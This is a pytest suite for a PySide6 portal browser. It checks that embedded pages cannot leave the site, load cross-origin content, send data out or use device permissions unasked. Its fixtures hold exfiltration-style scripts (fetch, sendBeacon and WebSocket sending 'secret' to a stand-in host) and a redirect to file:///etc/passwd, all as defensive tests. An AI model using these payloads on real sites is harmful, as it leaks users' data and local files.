"""What a portal's page may not do: go away, load or tell others anything, or have anything of this computer."""

from collections.abc import Callable

import pytest
from PySide6.QtCore import Qt

from ui.browsing import Person
from ui.websites import Answer, Website

LEFT = Qt.MouseButton.LeftButton


LEADS_OUT = {
    "a link": '<a id=go href="{other}/x">out</a>',
    "a link to a new window": '<a id=go target=_blank href="{other}/x">out</a>',
    "a script": "<button id=go onclick=\"location='{other}/x'\">out</button>",
    "a window": "<button id=go onclick=\"window.open('{other}/x')\">out</button>",
    "a redirect": '<a id=go href="/redirect">out</a>',
    "a page that moves on": '<a id=go href="/refresh">out</a>',
}


@pytest.mark.parametrize("body", LEADS_OUT.values(), ids=LEADS_OUT.keys())
def test_what_leads_out_opens_in_the_browser_when_somebody_says_so(
    opened: list[str], at_site: Callable[[str], Person], site: Website, other: Website, body: str
) -> None:
    site.pages["/redirect"] = Answer(status=302, headers={"location": f"{other.origin}/x"})
    site.pages["/refresh"] = Answer(f'moving<meta http-equiv=refresh content="0;url={other.origin}/x">')
    person = at_site(f"the order {body.format(other=other.origin)}")
    person.sees("the order")
    person.click("#go")
    person.until(lambda: "leads out of myFAStrack" in person.tab.notice.words)
    assert opened == []
    person.qtbot.mouseClick(person.tab.notice.yes, LEFT)
    assert opened == [f"{other.origin}/x"]
    assert person.tab.page.url().toString().startswith(site.origin)
    assert other.heard == []


REFUSED = {
    "a form": '<form id=f method=post action="{other}/x"><input name=secret value=1><button id=go>send</button></form>',
    "a file of this machine": '<a id=go href="/to-file">file</a>',
    "a page made of text": '<a id=go href="/to-data">data</a>',
}


@pytest.mark.parametrize("body", REFUSED.values(), ids=REFUSED.keys())
def test_what_is_refused_is_said_and_goes_nowhere(
    at_site: Callable[[str], Person], site: Website, other: Website, body: str
) -> None:
    site.pages["/to-file"] = Answer(status=302, headers={"location": "file:///etc/passwd"})
    site.pages["/to-data"] = Answer(status=302, headers={"location": "data:text/html,hi"})
    person = at_site(f"the order {body.format(other=other.origin)}")
    person.sees("the order")
    person.click("#go")
    person.until(lambda: person.tab.notice.words or person.tab.failure.isVisible())
    assert person.tab.page.url().toString().startswith(site.origin)
    assert other.heard == []


LOADED = {
    "a window by itself": "<script>window.open('{other}/x')</script>",
    "a frame": '<iframe src="{other}/x"></iframe>',
    "a frame that is redirected": '<iframe src="/redirect"></iframe>',
    "a picture": '<img src="{other}/x">',
    "a script": '<script src="{other}/x"></script>',
    "a style": '<link rel=stylesheet href="{other}/x">',
    "a call": "<script>fetch('{other}/x', {{method: 'POST', mode: 'no-cors', body: 'secret'}}).catch(() => 0)</script>",
    "a beacon": "<script>navigator.sendBeacon('{other}/x', 'secret')</script>",
    "a socket": "<script>try {{ new WebSocket('{other}/x'.replace('http', 'ws')) }} catch {{}}</script>",
}


@pytest.mark.parametrize("body", LOADED.values(), ids=LOADED.keys())
def test_nothing_of_another_site_is_loaded_or_told_anything(
    at_site: Callable[[str], Person], site: Website, other: Website, body: str
) -> None:
    site.pages["/redirect"] = Answer(status=302, headers={"location": f"{other.origin}/x"})
    site.pages["/after"] = Answer("the end")
    person = at_site(f"the order {body.format(other=other.origin)} <a id=go href=/after>on</a>")
    person.sees("the order")
    person.click("#go")
    person.sees("the end")
    assert other.heard == []


def test_a_frame_of_the_portal_is_shown(at_site: Callable[[str], Person], site: Website) -> None:
    site.pages["/frame"] = Answer("<script>parent.document.title = 'framed'</script>")
    person = at_site('the order <iframe src="/frame"></iframe>')
    person.until(lambda: person.tab.page.title() == "framed")


ASKED = {
    "geolocation": "navigator.geolocation.getCurrentPosition(() => done('given'), () => done('denied'))",
    "camera": "navigator.mediaDevices.getUserMedia({video: true}).then(() => done('given'), () => done('denied'))",
    "notifications": "Notification.requestPermission().then(said => done(said))",
    "clipboard": "navigator.clipboard.readText().then(() => done('given'), () => done('denied'))",
}


@pytest.mark.parametrize("script", ASKED.values(), ids=ASKED.keys())
def test_nothing_of_this_computer_is_given_without_asking(at_site: Callable[[str], Person], script: str) -> None:
    page = 'the order <button id=go onclick="SCRIPT">go</button><script>function done(said) { document.title = said }</script>'
    person = at_site(page.replace("SCRIPT", script))
    person.sees("the order")
    person.click("#go")
    person.until(lambda: "127.0.0.1 wants to" in person.tab.notice.words or person.tab.page.title() == "denied")
    assert person.tab.page.title() not in ("given", "granted")
    person.qtbot.mouseClick(person.tab.notice.no, LEFT)
    person.until(lambda: person.tab.page.title() in ("given", "denied", "granted"))
    assert person.tab.page.title() == "denied"


def test_what_somebody_allows_is_given(at_site: Callable[[str], Person]) -> None:
    person = at_site(
        f'the order <button id=go onclick="{ASKED["notifications"]}">go</button>'
        "<script>function done(said) { document.title = said }</script>"
    )
    person.sees("the order")
    person.click("#go")
    person.until(lambda: "wants to show notifications" in person.tab.notice.words)
    person.qtbot.mouseClick(person.tab.notice.yes, LEFT)
    person.until(lambda: person.tab.page.title() == "granted")
